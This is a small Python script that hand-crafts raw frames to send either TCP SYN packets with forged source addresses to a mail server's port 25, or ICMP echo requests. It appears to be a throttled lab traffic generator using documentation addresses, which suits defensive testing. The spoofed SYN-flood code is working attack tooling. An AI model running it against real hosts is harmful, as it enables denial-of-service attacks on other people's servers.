"""flood.py syn|ping COUNT: SYNs to the mail server's port 25 from forged addresses, or echo requests from one client.

Frames are made by hand and leave through a packet socket, 100 a second.
"""
import random
import socket
import struct
import sys
import time

SERVER = socket.inet_aton("192.0.2.25")
ETHERNET = bytes.fromhex("020000000025" "020000000010" "0800")


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF


def frame(source, protocol, payload, identification):
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), identification, 0, 64, protocol, 0, source, SERVER)
    return ETHERNET + head[:10] + struct.pack(">H", checksum(head)) + head[12:] + payload


def syn(generator, number):
    source = socket.inet_aton(f"203.0.113.{generator.randint(100, 250)}")
    segment = struct.pack(">HHIIBBHHH", generator.randint(1024, 65535), 25, generator.getrandbits(32), 0, 0x50, 2, 8192, 0, 0)
    pseudo = source + SERVER + struct.pack(">BBH", 0, 6, len(segment))
    return frame(source, 6, segment[:16] + struct.pack(">H", checksum(pseudo + segment)) + segment[18:], number)


def ping(generator, number):
    echo = struct.pack(">BBHHH", 8, 0, 0, 4711, number) + bytes(range(56))
    return frame(socket.inet_aton("198.51.100.21"), 1, echo[:2] + struct.pack(">H", checksum(echo)) + echo[4:], number)


make = {"syn": syn, "ping": ping}[sys.argv[1]]
generator = random.Random(3)
with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
    wire.bind(("eth0", 0))
    for number in range(int(sys.argv[2])):
        wire.send(make(generator, number))
        time.sleep(0.01)
